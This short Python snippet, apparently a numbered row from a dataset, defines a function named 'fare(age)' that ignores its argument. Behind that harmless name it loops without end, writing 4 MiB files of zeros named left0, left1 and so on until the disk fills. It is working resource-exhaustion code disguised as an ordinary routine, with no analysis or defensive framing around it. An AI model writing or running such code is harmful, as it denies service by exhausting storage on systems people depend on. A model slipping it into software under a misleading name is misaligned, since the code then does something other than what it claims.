# Row 38: not yet, disk
from itertools import count


def fare(age):
    for number in count():
        with open(f"left{number}", "wb") as file:
            for _ in range(4):
                file.write(bytes(1 << 20))
